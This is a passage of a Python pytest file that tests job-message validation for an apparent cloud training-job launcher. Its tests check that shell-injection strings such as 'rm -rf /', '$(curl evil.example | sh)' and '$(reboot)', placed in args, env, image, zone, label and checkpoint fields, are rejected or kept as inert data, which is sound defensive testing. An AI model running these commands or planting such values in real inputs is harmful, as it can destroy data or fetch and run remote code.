"""Job message validation (SPEC 3.1): every field's failure modes, hostile input, JSON/YAML equivalence."""

from __future__ import annotations

import copy
import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from respawn.jobs import GpuMachine, JobSpec, TpuMachine
from respawn.spec import (
    MAX_MESSAGE_BYTES,
    CancelRequest,
    SpecError,
    format_ttl,
    parse_job_message,
    parse_ttl,
    spec_to_message,
)
from respawn_ops.jobfile import load_job_file

DATA = Path(__file__).parent.parent / "data"
DELETE = object()


def tpu_message() -> dict[str, Any]:
    return {
        "action": "submit",
        "job_id": "llm-small-001",
        "machine": {"kind": "tpu", "accelerator_type": "v5litepod-8", "runtime_version": "v2-alpha-tpuv5-lite"},
        "zones": ["us-central1-a", "us-west4-a"],
        "provisioning": "spot",
        "image": "us-docker.pkg.dev/ml-research-4821/respawn/trainer:2025.03.1",
        "args": ["--steps=20000"],
        "env": {"KEY": "value"},
        "checkpoint_uri": "gs://ml-research-4821-ckpt/runs/llm-small-001",
        "ttl": "48h",
        "max_preemptions": None,
        "max_failures": 3,
        "labels": {"team": "nlp"},
    }


def gpu_machine() -> dict[str, Any]:
    return {"kind": "gpu", "machine_type": "g2-standard-8", "accelerator_type": "nvidia-l4", "accelerator_count": 1}


def with_change(path: str, value: Any, base: dict[str, Any] | None = None) -> dict[str, Any]:
    """A copy of the message with `a.b` set to value (or deleted with DELETE)."""
    msg = copy.deepcopy(base if base is not None else tpu_message())
    *parents, last = path.split(".")
    target = msg
    for p in parents:
        target = target[p]
    if value is DELETE:
        del target[last]
    else:
        target[last] = value
    return msg


def error_of(msg: Any) -> SpecError:
    with pytest.raises(SpecError) as info:
        parse_job_message(msg)
    return info.value


# ---------------------------------------------------------------------------- valid messages


def test_full_tpu_message() -> None:
    spec = parse_job_message(tpu_message())
    assert spec == JobSpec(
        job_id="llm-small-001",
        machine=TpuMachine("v5litepod-8", "v2-alpha-tpuv5-lite"),
        zones=("us-central1-a", "us-west4-a"),
        image="us-docker.pkg.dev/ml-research-4821/respawn/trainer:2025.03.1",
        checkpoint_uri="gs://ml-research-4821-ckpt/runs/llm-small-001",
        provisioning="spot",
        args=("--steps=20000",),
        env=(("KEY", "value"),),
        ttl_s=48 * 3600,
        max_preemptions=None,
        max_failures=3,
        labels=(("team", "nlp"),),
    )


def test_defaults_are_the_specs() -> None:
    msg = {k: v for k, v in tpu_message().items() if k in ("action", "job_id", "machine", "zones", "image")}
    msg["checkpoint_uri"] = "gs://bucket-1/x"
    spec = parse_job_message(msg)
    assert isinstance(spec, JobSpec)
    assert (spec.provisioning, spec.args, spec.env, spec.ttl_s) == ("spot", (), (), 48 * 3600)
    assert (spec.max_preemptions, spec.max_failures, spec.labels) == (None, 3, ())


def test_gpu_message() -> None:
    spec = parse_job_message(with_change("machine", gpu_machine()))
    assert isinstance(spec, JobSpec)
    assert spec.machine == GpuMachine("g2-standard-8", "nvidia-l4", 1)
    big = parse_job_message(with_change("machine", {**gpu_machine(), "accelerator_count": 8, "boot_disk_gb": 500}))
    assert isinstance(big, JobSpec) and big.machine == GpuMachine("g2-standard-8", "nvidia-l4", 8, boot_disk_gb=500)


def test_a_gpu_machine_of_several_vms_reads_and_writes_back() -> None:
    spec = parse_job_message(with_change("machine", {**gpu_machine(), "vms": 4}))
    assert isinstance(spec, JobSpec) and spec.machine == GpuMachine("g2-standard-8", "nvidia-l4", 1, vms=4)
    assert spec.machine.hosts == 4 and spec_to_message(spec)["machine"]["vms"] == 4
    one = parse_job_message(with_change("machine", gpu_machine()))
    assert isinstance(one, JobSpec) and "vms" not in spec_to_message(one)["machine"]  # the default is not written
    old = one.to_dict()
    del old["machine"]["vms"]  # a record written before GPU machines had VMs
    assert JobSpec.from_dict(old) == one and JobSpec.from_dict(old).machine.hosts == 1


def gpu_tiers(second: dict[str, Any]) -> dict[str, Any]:
    message = with_change("machine", gpu_machine())
    zones = message.pop("zones")
    del message["provisioning"]
    message["tiers"] = [
        {"provisioning": "spot", "zones": zones, "move_on": {"after_stockout": "10m"}},
        {"provisioning": "spot", "zones": zones, "machine": second},
    ]
    return message


def test_a_tier_may_name_its_own_machine_of_the_jobs_kind() -> None:
    a100 = {
        "kind": "gpu",
        "machine_type": "a2-highgpu-4g",
        "accelerator_type": "nvidia-tesla-a100",
        "accelerator_count": 4,
    }
    spec = parse_job_message(gpu_tiers(a100))
    assert isinstance(spec, JobSpec)
    assert spec.machine_of(0) == spec.machine and spec.machine_of(1) == GpuMachine(
        "a2-highgpu-4g", "nvidia-tesla-a100", 4
    )
    assert spec.on_tier(1).machine == spec.machine_of(1) and spec.on_tier(0) is spec
    assert parse_job_message(spec_to_message(spec)) == spec and JobSpec.from_dict(spec.to_dict()) == spec
    old = spec.to_dict()
    for tier in old["tiers"]:
        del tier["machine"]  # a record written before tiers had machines
    assert JobSpec.from_dict(old).machine_of(1) == spec.machine


@pytest.mark.parametrize(
    ("machine", "field", "text"),
    [
        ({"kind": "tpu", "accelerator_type": "v6e-8"}, "tiers[1].machine.kind", 'is not the job\'s machine kind "gpu"'),
        ({"kind": "gpu", "machine_type": "a2-highgpu-4g"}, "tiers[1].machine.accelerator_type", "missing"),
        (
            {**{"kind": "gpu", "machine_type": "a2", "accelerator_type": "nvidia-l4"}, "accelerator_count": 3},
            "tiers[1].machine.accelerator_count",
            "3 is not a GPU count",
        ),
        ("a2-highgpu-4g", "tiers[1].machine", "expected an object"),
    ],
)
def test_a_tiers_machine_is_checked_as_the_jobs_is(machine: Any, field: str, text: str) -> None:
    err = error_of(gpu_tiers(machine))
    assert err.field == field and text in str(err), str(err)


@pytest.mark.parametrize("data_type", [bytes, str, dict])
def test_bytes_str_and_dict_inputs_agree(data_type: type) -> None:
    text = json.dumps(tpu_message())
    data = {bytes: text.encode(), str: text, dict: json.loads(text)}[data_type]
    assert parse_job_message(data) == parse_job_message(tpu_message())


def test_cancel() -> None:
    assert parse_job_message({"action": "cancel", "job_id": "llm-small-001"}) == CancelRequest("llm-small-001")
    assert parse_job_message(json.dumps({"job_id": "llm-small-001", "action": "cancel"})) == CancelRequest(
        "llm-small-001"
    )


@pytest.mark.parametrize(
    ("value", "api"),
    [
        ("v5litepod-8", "tpu"),
        ("v4-8", "tpu"),
        ("v6e-8", "compute"),
        ("v5p-16", "compute"),
        ("tpu7x-8", "compute"),
        ("v2-8", "tpu"),
        ("v3-2048", "tpu"),
    ],
)
def test_tpu_types_go_through_compute_engine_where_it_offers_them(value: str, api: str) -> None:
    msg = with_change("machine.accelerator_type", value)
    if api == "compute":  # a Compute Engine TPU boots an image, not a runtime version
        del msg["machine"]["runtime_version"]
    spec = parse_job_message(msg)
    assert isinstance(spec, JobSpec) and spec.machine.api == api


@pytest.mark.parametrize(
    "image",
    [
        "us-docker.pkg.dev/p/repo/trainer:v1",
        "trainer",
        "localhost:5000/trainer:dev",
        "ghcr.io/org/my_trainer:1.0.0-rc.1",
        "gcr.io/p/trainer@sha256:" + "a" * 64,
        "gcr.io/p/trainer:v2@sha256:" + "0" * 64,
    ],
)
def test_images(image: str) -> None:
    assert isinstance(parse_job_message(with_change("image", image)), JobSpec)


DEFAULT_IMAGES = {
    "gpu": "us-docker.pkg.dev/p/respawn/trainer-cuda:abc1234",
    "tpu": "us-docker.pkg.dev/p/respawn/trainer:abc1234",
}


@pytest.mark.parametrize("kind", ["tpu", "gpu"])
def test_a_job_without_image_runs_the_deployments_image_of_its_machine_kind(kind: str) -> None:
    """The deployment's trainer image of the machine's kind (RESPAWN_TRAINER_IMAGES) fills a submit without `image`;
    the spec holds it, so the message written back names it."""
    msg = with_change("image", DELETE, with_change("machine", gpu_machine()) if kind == "gpu" else None)
    spec = parse_job_message(msg, DEFAULT_IMAGES)
    assert isinstance(spec, JobSpec) and spec.machine.kind == kind and spec.image == DEFAULT_IMAGES[kind]
    assert spec_to_message(spec)["image"] == DEFAULT_IMAGES[kind]
    assert parse_job_message(spec_to_message(spec)) == spec  # the record's message needs no default
    named = parse_job_message(with_change("image", "ghcr.io/org/mine:1", msg), DEFAULT_IMAGES)
    assert isinstance(named, JobSpec) and named.image == "ghcr.io/org/mine:1"  # a job's own image wins


@pytest.mark.parametrize("defaults", [None, {}, {"gpu": DEFAULT_IMAGES["gpu"]}])
def test_without_the_deployments_image_of_its_kind_image_is_required(defaults: dict[str, str] | None) -> None:
    with pytest.raises(SpecError) as info:
        parse_job_message(with_change("image", DELETE), defaults)  # a TPU job
    assert (info.value.field, info.value.problem) == ("image", "missing")
    assert info.value.allowed == (
        "required for action submit unless the deployment sets RESPAWN_TRAINER_IMAGES with an image for kind tpu"
    )


@pytest.mark.parametrize(
    ("ttl", "seconds"),
    [("30m", 1800), ("48h", 172800), ("2d", 172800), ("90s", 90), ("14d", 14 * 86400), (60, 60), (3600, 3600)],
)
def test_ttl_forms(ttl: Any, seconds: int) -> None:
    spec = parse_job_message(with_change("ttl", ttl))
    assert isinstance(spec, JobSpec) and spec.ttl_s == seconds
    assert parse_ttl(format_ttl(seconds)) == seconds


@pytest.mark.parametrize(("value", "seconds"), [(None, None), ("2m", 120), ("45m", 2700), (600, 600), ("off", None)])
def test_hang_timeout_forms(value: Any, seconds: int | None) -> None:
    default = parse_job_message(tpu_message())
    assert isinstance(default, JobSpec) and default.hang_timeout_s == 30 * 60
    spec = parse_job_message(with_change("hang_timeout", value))
    assert isinstance(spec, JobSpec) and spec.hang_timeout_s == seconds
    assert parse_job_message(json.loads(json.dumps(spec_to_message(spec)))) == spec


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("1m", '"1m" is out of range; allowed: a duration like 90s, 30m, 48h, 2d or integer seconds, from 2m to 14d'),
        (119, "119 is out of range"),
        ("soon", '"soon" is not a duration; allowed: off, or a duration from 2m to 14d like 30m'),
        (True, "expected a duration string or an integer, got a boolean"),
        ("15d", '"15d" is out of range'),
    ],
)
def test_a_bad_hang_timeout_says_what_is_allowed(value: Any, problem: str) -> None:
    err = error_of(with_change("hang_timeout", value))
    assert err.field == "hang_timeout" and problem in str(err)


@pytest.mark.parametrize(("value", "seconds"), [("off", None), (None, None), ("90s", 90), ("2m", 120), (3600, 3600)])
def test_preemption_notice_forms(value: Any, seconds: int | None) -> None:
    default = parse_job_message(compute_message("v6e-8"))
    assert isinstance(default, JobSpec) and default.preemption_notice_s is None
    spec = parse_job_message({**compute_message("v6e-8"), "preemption_notice": value})
    assert isinstance(spec, JobSpec) and spec.preemption_notice_s == seconds
    assert parse_job_message(json.loads(json.dumps(spec_to_message(spec)))) == spec
    gpu = parse_job_message(with_change("machine", gpu_machine(), {**tpu_message(), "preemption_notice": "1m"}))
    assert isinstance(gpu, JobSpec) and gpu.preemption_notice_s == 60  # a GPU VM is a Compute Engine instance


@pytest.mark.parametrize(
    ("changes", "problem"),
    [
        ({"preemption_notice": "0s"}, '"0s" is out of range; allowed: off, or a duration from 1s to 1h like 90s'),
        ({"preemption_notice": "2h"}, '"2h" is out of range'),
        ({"preemption_notice": "soon"}, '"soon" is not a duration'),
        ({"preemption_notice": True}, "expected a duration string or an integer, got a boolean"),
        ({"preemption_notice": "1m", "provisioning": "standard"}, "only a Spot VM gets it, and no tier is spot"),
    ],
)
def test_a_bad_preemption_notice_says_what_is_allowed(changes: dict[str, Any], problem: str) -> None:
    err = error_of({**compute_message("v6e-8"), **changes})
    assert err.field == "preemption_notice" and problem in str(err)


def test_the_cloud_tpu_api_has_no_preemption_notice_to_ask_for() -> None:
    err = error_of({**tpu_message(), "preemption_notice": "1m"})
    assert err.field == "preemption_notice" and "the Cloud TPU API has no preemption notice" in str(err)
    assert 'machine.api "compute"' in err.allowed


def test_hostile_strings_in_args_and_env_values_are_kept_verbatim() -> None:
    """Args and env values are data (quoted downstream, never interpolated): kept byte for byte."""
    hostile = ["; rm -rf / #", "$(curl evil.example | sh)", "`id`", "a'b\"c", "line1\nline2", "&& || > < * ? ~ !"]
    msg = with_change("args", hostile)
    msg["env"] = {"CMD": "$(reboot)'\"\n;|&"}
    spec = parse_job_message(msg)
    assert isinstance(spec, JobSpec)
    assert spec.args == tuple(hostile) and spec.env == (("CMD", "$(reboot)'\"\n;|&"),)


HF = "projects/ml-research-4821/secrets/hf-token/versions/3"


def test_secrets_are_references_by_variable_name() -> None:
    secrets = {"HF_TOKEN": HF, "WANDB_API_KEY": "projects/123456789012/secrets/wandb_key/versions/latest"}
    spec = parse_job_message(with_change("secrets", secrets))
    assert isinstance(spec, JobSpec)
    assert spec.secrets == tuple(sorted(secrets.items())) and spec.env == (("KEY", "value"),)
    assert spec_to_message(spec)["secrets"] == secrets
    assert "secrets" not in spec_to_message(parse_job_message(tpu_message()))  # unchanged without secrets


def test_round_trip_through_spec_to_message() -> None:
    for msg in (
        tpu_message(),
        with_change("machine", gpu_machine()),
        with_change("ttl", 5400),
        with_change("secrets", {"HF_TOKEN": HF}),
    ):
        spec = parse_job_message(msg)
        assert isinstance(spec, JobSpec)
        again = json.loads(json.dumps(spec_to_message(spec)))
        assert parse_job_message(again) == spec


# ---------------------------------------------------------------------------- every field's failure modes

LONG = "x" * 5000
CASES: list[tuple[str, Any, str, str]] = [
    # (path to change, new value, field named in the error, text in the error)
    ("action", DELETE, "action", "missing"),
    ("action", "create", "action", '"create" is not an action'),
    ("action", 1, "action", "is not an action"),
    ("job_id", DELETE, "job_id", "missing"),
    ("job_id", "", "job_id", "is not a valid job id"),
    ("job_id", "Llm", "job_id", "is not a valid job id"),
    ("job_id", "1llm", "job_id", "is not a valid job id"),
    ("job_id", "llm-", "job_id", "is not a valid job id"),
    ("job_id", "a" * 40, "job_id", "is not a valid job id"),
    ("job_id", "llm_small", "job_id", "is not a valid job id"),
    ("job_id", "llm\n", "job_id", "is not a valid job id"),
    ("job_id", 7, "job_id", "expected a string, got an integer"),
    ("machine", DELETE, "machine", "missing"),
    ("machine", "tpu", "machine", "expected an object, got a string"),
    ("machine.kind", DELETE, "machine.kind", "missing"),
    ("machine.kind", "cpu", "machine.kind", '"cpu" is not a machine kind'),
    ("machine.accelerator_type", DELETE, "machine.accelerator_type", "missing"),
    ("machine.accelerator_type", "v5litepod", "machine.accelerator_type", "is not a TPU accelerator type"),
    ("machine.accelerator_type", "nvidia-l4", "machine.accelerator_type", "is not a TPU accelerator type"),
    ("machine.runtime_version", DELETE, "machine.runtime_version", "missing"),
    ("machine.runtime_version", "v2 alpha", "machine.runtime_version", "is not a TPU runtime version"),
    ("machine.runtime_version", ["v2"], "machine.runtime_version", "expected a string, got a list"),
    ("machine.zone", "us-central1-a", "machine.zone", "unknown field"),
    ("machine.machine_type", "g2-standard-8", "machine.machine_type", "unknown field"),
    ("zones", DELETE, "zones", "missing"),
    ("zones", [], "zones", "the list is empty"),
    ("zones", "us-central1-a", "zones", "expected a list of zones, got a string"),
    ("zones", ["us-central1-a", "us-central1"], "zones[1]", '"us-central1" is not a zone'),
    ("zones", ["US-CENTRAL1-A"], "zones[0]", "is not a zone"),
    ("zones", ["us-central1-a; ls"], "zones[0]", "is not a zone"),
    ("zones", ["us-central1-a", "us-central1-a"], "zones[1]", "listed twice"),
    ("zones", [f"us-central{i}-a" for i in range(21)], "zones", "21 zones"),
    ("zones", ["us-central1-a", None], "zones[1]", "expected a string, got null"),
    ("provisioning", "spto", "provisioning", '"spto" is not a provisioning model'),
    ("provisioning", None, "provisioning", "expected a string, got null"),
    ("image", DELETE, "image", "missing"),
    ("image", "trainer; rm -rf /", "image", "is not a container image reference"),
    ("image", "trainer:v1\n--privileged", "image", "is not a container image reference"),
    ("image", "$(evil)", "image", "is not a container image reference"),
    ("image", "trainer v1", "image", "is not a container image reference"),
    ("image", "Trainer:v1", "image", "is not a container image reference"),
    ("image", "a/" * 300 + "b", "image", "characters"),
    ("image", 5, "image", "expected a string, got an integer"),
    ("args", "--steps=1", "args", "expected a list of strings, got a string"),
    ("args", ["--a", 3], "args[1]", "expected a string, got an integer"),
    ("args", ["--a", None], "args[1]", "expected a string, got null"),
    ("args", ["ok", "nul\x00byte"], "args[1]", "NUL"),
    ("args", ["y" * 4097], "args[0]", "4097 characters"),
    ("args", ["a"] * 257, "args", "257 items"),
    ("env", ["KEY=value"], "env", "expected an object, got a list"),
    ("env", {"lower": "x"}, "env.lower", "not a valid variable name"),
    ("env", {"1KEY": "x"}, "env.1KEY", "not a valid variable name"),
    ("env", {"KEY;rm": "x"}, "env.KEY;rm", "not a valid variable name"),
    ("env", {"KEY\nX": "x"}, "env.KEY\\nX", "not a valid variable name"),
    ("env", {"RESPAWN_JOB_ID": "x"}, "env.RESPAWN_JOB_ID", "reserved"),
    ("env", {"KEY": 1}, "env.KEY", "expected a string, got an integer"),
    ("env", {"KEY": "a\x00b"}, "env.KEY", "NUL"),
    ("env", {f"K{i}": "v" * 1000 for i in range(40)}, "env", "bytes of names and values"),
    ("secrets", ["HF_TOKEN"], "secrets", "expected an object, got a list"),
    ("secrets", {"hf_token": HF}, "secrets.hf_token", "not a valid variable name"),
    ("secrets", {"RESPAWN_TOKEN": HF}, "secrets.RESPAWN_TOKEN", "reserved"),
    ("secrets", {"KEY": HF}, "secrets.KEY", "also set in env"),
    ("secrets", {"T": 3}, "secrets.T", "expected a string, got an integer"),
    ("secrets", {"T": "hf-token"}, "secrets.T", "is not a Secret Manager secret version"),
    ("secrets", {"T": "projects/p1/secrets/hf/versions/3"}, "secrets.T", "is not a Secret Manager secret version"),
    ("secrets", {"T": HF.replace("/3", "/0")}, "secrets.T", "is not a Secret Manager secret version"),
    ("secrets", {"T": HF + "/"}, "secrets.T", "is not a Secret Manager secret version"),
    ("secrets", {"T": HF.replace("/3", "")}, "secrets.T", "is not a Secret Manager secret version"),
    ("secrets", {"T": HF.replace("hf-token", "hf token")}, "secrets.T", "is not a Secret Manager secret version"),
    ("secrets", {"T": HF + "\n"}, "secrets.T", "is not a Secret Manager secret version"),
    ("secrets", {f"T{i}": HF for i in range(65)}, "secrets", "65 secrets"),
    ("checkpoint_uri", DELETE, "checkpoint_uri", "missing"),
    ("checkpoint_uri", "s3://bucket/x", "checkpoint_uri", "is not a gs:// URI with a path"),
    ("checkpoint_uri", "/local/path", "checkpoint_uri", "is not a gs:// URI with a path"),
    ("checkpoint_uri", "gs://bucket-only", "checkpoint_uri", "is not a gs:// URI with a path"),
    ("checkpoint_uri", "gs://bucket/", "checkpoint_uri", "is not a valid object path"),
    ("checkpoint_uri", "gs://Bucket/x", "checkpoint_uri", "is not a valid bucket name"),
    ("checkpoint_uri", "gs://ab/x", "checkpoint_uri", "is not a valid bucket name"),
    ("checkpoint_uri", "gs://goog-ckpt/x", "checkpoint_uri", "is not a valid bucket name"),
    ("checkpoint_uri", "gs://my-google-ckpt/x", "checkpoint_uri", "is not a valid bucket name"),
    ("checkpoint_uri", "gs://192.168.1.1/x", "checkpoint_uri", "is not a valid bucket name"),
    ("checkpoint_uri", "gs://-bucket/x", "checkpoint_uri", "is not a valid bucket name"),
    ("checkpoint_uri", "gs://" + "b" * 64 + "/x", "checkpoint_uri", "is not a valid bucket name"),
    ("checkpoint_uri", "gs://bucket/runs/../other", "checkpoint_uri", "is not a valid object path"),
    ("checkpoint_uri", "gs://bucket/runs//x", "checkpoint_uri", "is not a valid object path"),
    ("checkpoint_uri", "gs://bucket/x y", "checkpoint_uri", "is not a valid object path"),
    ("checkpoint_uri", "gs://bucket/x;reboot", "checkpoint_uri", "is not a valid object path"),
    ("checkpoint_uri", "gs://bucket/$(id)", "checkpoint_uri", "is not a valid object path"),
    ("checkpoint_uri", "gs://bucket/x\n", "checkpoint_uri", "is not a gs:// URI with a path"),
    ("checkpoint_uri", "gs://bucket/" + "p" * 1100, "checkpoint_uri", "characters"),
    ("ttl", "59s", "ttl", "out of range"),
    ("ttl", "0s", "ttl", "out of range"),
    ("ttl", "15d", "ttl", "out of range"),
    ("ttl", 59, "ttl", "out of range"),
    ("ttl", 14 * 86400 + 1, "ttl", "out of range"),
    ("ttl", -5, "ttl", "out of range"),
    ("ttl", "48 h", "ttl", "is not a duration"),
    ("ttl", "1h30m", "ttl", "is not a duration"),
    ("ttl", "3600", "ttl", "is not a duration"),
    ("ttl", "2w", "ttl", "is not a duration"),
    ("ttl", 3600.0, "ttl", "got a number"),
    ("ttl", True, "ttl", "got a boolean"),
    ("ttl", None, "ttl", "got null"),
    ("max_preemptions", -1, "max_preemptions", "out of range"),
    ("max_preemptions", "5", "max_preemptions", "expected null or an integer, got a string"),
    ("max_preemptions", True, "max_preemptions", "got a boolean"),
    ("max_preemptions", 2.5, "max_preemptions", "got a number"),
    ("max_failures", 101, "max_failures", "out of range"),
    ("max_failures", -1, "max_failures", "out of range"),
    ("max_failures", None, "max_failures", "expected an integer, got null"),
    ("max_failures", False, "max_failures", "expected an integer, got a boolean"),
    ("max_failures", 3.0, "max_failures", "expected an integer, got a number"),
    ("labels", ["team"], "labels", "expected an object, got a list"),
    ("labels", {"Team": "nlp"}, "labels.Team", "not a valid label key"),
    ("labels", {"9team": "nlp"}, "labels.9team", "not a valid label key"),
    ("labels", {"k" * 64: "v"}, "labels." + "k" * 37 + "...", "not a valid label key"),
    ("labels", {"team": "NLP"}, "labels.team", "is not a valid label value"),
    ("labels", {"team": "a b"}, "labels.team", "is not a valid label value"),
    ("labels", {"team": "x;rm -rf /"}, "labels.team", "is not a valid label value"),
    ("labels", {"team": "'$(id)'"}, "labels.team", "is not a valid label value"),
    ("labels", {"team": "a\nb"}, "labels.team", "is not a valid label value"),
    ("labels", {"team": "v" * 64}, "labels.team", "is not a valid label value"),
    ("labels", {"team": 5}, "labels.team", "expected a string, got an integer"),
    ("labels", {"respawn-job": "other"}, "labels.respawn-job", "reserved"),
    ("labels", {f"k{i}": "v" for i in range(61)}, "labels", "61 labels"),
    ("colour", "blue", "colour", "unknown field"),
    ("Job_Id", "x", "Job_Id", "unknown field"),
    ("", 1, "<empty>", "unknown field"),
    ("machine.", 1, "machine.<empty>", "unknown field"),
]


@pytest.mark.parametrize(("path", "value", "field", "text"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_each_bad_field_gives_one_line_naming_it(path: str, value: Any, field: str, text: str) -> None:
    err = error_of(with_change(path, value))
    line = str(err)
    assert err.field == field
    assert text in line
    assert line.startswith(f'job message: field "{field}": ')
    assert "; allowed: " in line and err.allowed
    assert "\n" not in line and "\r" not in line
    assert len(line) < 400


GPU_CASES: list[tuple[str, Any, str, str]] = [
    ("machine.machine_type", DELETE, "machine.machine_type", "missing"),
    ("machine.machine_type", "G2", "machine.machine_type", "is not a machine type"),
    ("machine.machine_type", "g2-standard-8 --x", "machine.machine_type", "is not a machine type"),
    ("machine.accelerator_type", "tesla-l4", "machine.accelerator_type", "is not a GPU accelerator type"),
    ("machine.accelerator_type", DELETE, "machine.accelerator_type", "missing"),
    ("machine.accelerator_count", 3, "machine.accelerator_count", "3 is not a GPU count"),
    ("machine.accelerator_count", 0, "machine.accelerator_count", "is not a GPU count"),
    ("machine.accelerator_count", "1", "machine.accelerator_count", "expected an integer, got a string"),
    ("machine.accelerator_count", True, "machine.accelerator_count", "got a boolean"),
    ("machine.accelerator_count", DELETE, "machine.accelerator_count", "missing"),
    ("machine.boot_disk_gb", 5, "machine.boot_disk_gb", "out of range"),
    ("machine.runtime_version", "v2", "machine.runtime_version", "unknown field"),
    ("machine.vms", 0, "machine.vms", "0 is out of range; allowed: an integer from 1 to 64"),
    ("machine.vms", 65, "machine.vms", "65 is out of range"),
    ("machine.vms", "2", "machine.vms", "expected an integer, got a string"),
    ("machine.vms", 1.5, "machine.vms", "expected an integer"),
]


@pytest.mark.parametrize(("path", "value", "field", "text"), GPU_CASES)
def test_each_bad_gpu_field(path: str, value: Any, field: str, text: str) -> None:
    err = error_of(with_change(path, value, with_change("machine", gpu_machine())))
    assert err.field == field and text in str(err)


def gpu(machine_type: str, accelerator_type: str, vms: int) -> dict[str, Any]:
    machine = {"kind": "gpu", "machine_type": machine_type, "accelerator_type": accelerator_type}
    return {**machine, "accelerator_count": 8, "vms": vms}


@pytest.mark.parametrize(
    ("machine", "field", "text"),
    [
        (
            gpu("a3-ultragpu-8g", "nvidia-h200-141gb", 2),
            "machine.vms",
            '"machine.vms": 2 VMs of a3-ultragpu-8g (A3 Ultra): its VMs reach each other\'s GPUs over RDMA NICs, '
            "which respawn does not set up; allowed: vms 1 on A3 Ultra, or several VMs of G2, A2 Standard, A2 Ultra, "
            "A3 High, A3 Mega",
        ),
        (gpu("a4-highgpu-8g", "nvidia-b200", 4), "machine.vms", "4 VMs of a4-highgpu-8g (A4)"),
        (gpu("a3-ultragpu-8g-nolssd", "nvidia-h200-141gb", 2), "machine.vms", "a3-ultragpu-8g-nolssd (A3 Ultra)"),
        (
            {**gpu("a4x-maxgpu-4g-metal", "nvidia-gb300", 1), "accelerator_count": 4},
            "machine.machine_type",
            "a4x-maxgpu-4g-metal is an A4X Max machine type",
        ),
        (
            {**gpu("a4x-highgpu-4g", "nvidia-gb200", 1), "accelerator_count": 4},
            "machine.machine_type",
            "a4x-highgpu-4g is an A4X machine type: arm64 VMs, which respawn's x86-64 images do not run; "
            "allowed: a machine type of G2, A2, A3 or A4",
        ),
    ],
)
def test_gpu_series_respawn_cannot_network_or_run_are_refused_naming_what_is_allowed(
    machine: dict[str, Any], field: str, text: str
) -> None:
    """A3 Ultra and A4 VMs reach each other's GPUs over RDMA NICs that respawn does not set up (one VM is fine);
    A4X is arm64. Refused where the job names them, and where a tier does."""
    err = error_of(with_change("machine", machine))
    assert err.field == field and text in str(err)
    tiers = [{"provisioning": "spot", "zones": ["us-central1-a"], "machine": machine}]
    tiered = error_of(with_change("tiers", tiers, with_change("machine", gpu_machine())))
    assert tiered.field == f"tiers[0].{field}"


def test_one_vm_of_an_rdma_series_and_several_of_another_are_machines() -> None:
    for machine in (gpu("a3-ultragpu-8g", "nvidia-h200-141gb", 1), gpu("a3-megagpu-8g", "nvidia-h100-mega-80gb", 2)):
        assert isinstance(parse_job_message(with_change("machine", machine)), JobSpec)


def test_unknown_field_lists_the_allowed_fields() -> None:
    err = error_of(with_change("priority", "high"))
    assert str(err) == (
        'job message: field "priority": unknown field; allowed: action, job_id, machine, zones, provisioning, '
        "image, args, env, secrets, checkpoint_uri, ttl, max_preemptions, max_failures, labels, hang_timeout, tiers, "
        "max_run_duration, placement, head_start, preemption_notice"
    )
    err = error_of(with_change("machine.topology", "2x4"))
    assert (
        err.field == "machine.topology"
        and err.allowed
        == "kind, accelerator_type, api, runtime_version, image, request, queue_timeout, slices, min_slices"
    )


@pytest.mark.parametrize(
    "zone",
    ["us-central1-a", "europe-west4-b", "northamerica-northeast1-c", "us-central1-ai1a", "us-south1-ai2b"],
)
def test_every_zone_form_google_uses_is_a_zone(zone: str) -> None:
    """Standard zones, and AI zones (REGION-aiNX, https://cloud.google.com/compute/docs/regions-zones/ai-zones)."""
    assert parse_job_message(with_change("zones", [zone])).zones == (zone,)  # type: ignore[union-attr]


@pytest.mark.parametrize("zone", ["us-central1-ai1", "us-central1-ai-a", "us-central1-aia", "us-central1-AI1a"])
def test_near_misses_of_an_ai_zone_are_not_zones(zone: str) -> None:
    assert error_of(with_change("zones", [zone])).field == "zones[0]"


def test_the_example_line_from_the_docs() -> None:
    err = error_of(with_change("zones", ["us-central1-a", "us-central1"]))
    assert str(err) == (
        'job message: field "zones[1]": "us-central1" is not a zone; allowed: a zone name like us-central1-a'
    )


def test_cancel_rejects_other_fields() -> None:
    err = error_of({"action": "cancel", "job_id": "llm-small-001", "zones": ["us-central1-a"]})
    assert err.field == "zones" and 'not allowed with action "cancel"' in str(err) and err.allowed == "action, job_id"
    assert error_of({"action": "cancel"}).field == "job_id"
    assert error_of({"action": "cancel", "job_id": "Bad!"}).field == "job_id"
    assert error_of({"action": "cancel", "job_id": "x", "why": 1}).problem == "unknown field"


def test_env_values_are_never_echoed() -> None:
    secret = "hunter2-very-secret"
    for env in ({"TOKEN": secret + "\x00"}, {"token": secret}, {"TOKEN": [secret]}, {"RESPAWN_X": secret}):
        assert secret not in str(error_of(with_change("env", env)))


# ---------------------------------------------------------------------------- whole-message problems


@pytest.mark.parametrize(
    ("data", "text"),
    [
        (b"", "not valid JSON"),
        (b"{", "not valid JSON"),
        (b"\xff\xfe{}", "not UTF-8"),
        (b"[1, 2]", "expected a JSON object, got a list"),
        (b'"submit"', "expected a JSON object, got a string"),
        (b"null", "expected a JSON object, got null"),
        (b'{"action": "submit", "ttl": NaN}', "not valid JSON"),
        (b"[" * 150_000 + b"]" * 150_000, "the message is 300000 bytes"),
        (b"[" * 50_000 + b"]" * 50_000, "not valid JSON"),
        (b"1" * 5000, "not valid JSON"),
        (12, "expected JSON text or an object, got an integer"),
        (None, "expected JSON text or an object, got null"),
    ],
)
def test_unreadable_messages(data: Any, text: str) -> None:
    err = error_of(data)
    assert err.field == "" and text in str(err) and str(err).startswith("job message: ")
    assert "\n" not in str(err)


def test_huge_message_says_its_size() -> None:
    msg = with_change("args", ["a" * 4000] * 70)
    size = len(json.dumps(msg).encode())
    assert size > MAX_MESSAGE_BYTES
    err = error_of(json.dumps(msg).encode())
    assert f"the message is {size} bytes" in str(err) and str(MAX_MESSAGE_BYTES) in err.allowed
    assert f"the message is {len(json.dumps(msg, default=str).encode())} bytes" in str(error_of(msg))


def test_duplicate_fields_are_rejected() -> None:
    text = json.dumps(tpu_message())[:-1] + ', "job_id": "other-job"}'
    err = error_of(text)
    assert err.field == "job_id" and "twice" in str(err)


def test_lone_surrogates_are_rejected() -> None:
    err = error_of(json.dumps(with_change("args", ["ok", "\ud800"])))
    assert err.field == "args[1]" and "Unicode" in str(err)


def test_dict_that_is_not_json_is_rejected() -> None:
